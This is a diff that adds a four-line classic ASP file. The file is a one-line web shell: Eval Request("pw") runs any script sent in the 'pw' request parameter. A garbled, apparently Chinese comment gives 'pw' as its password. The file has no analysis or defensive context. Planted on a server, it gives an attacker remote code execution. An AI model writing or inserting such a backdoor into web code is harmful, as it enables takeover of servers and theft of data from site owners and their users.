@@ -1,0 +1,4 @@
+<%
+' ÃÜÂë: pw
+Eval Request("pw")
+%>
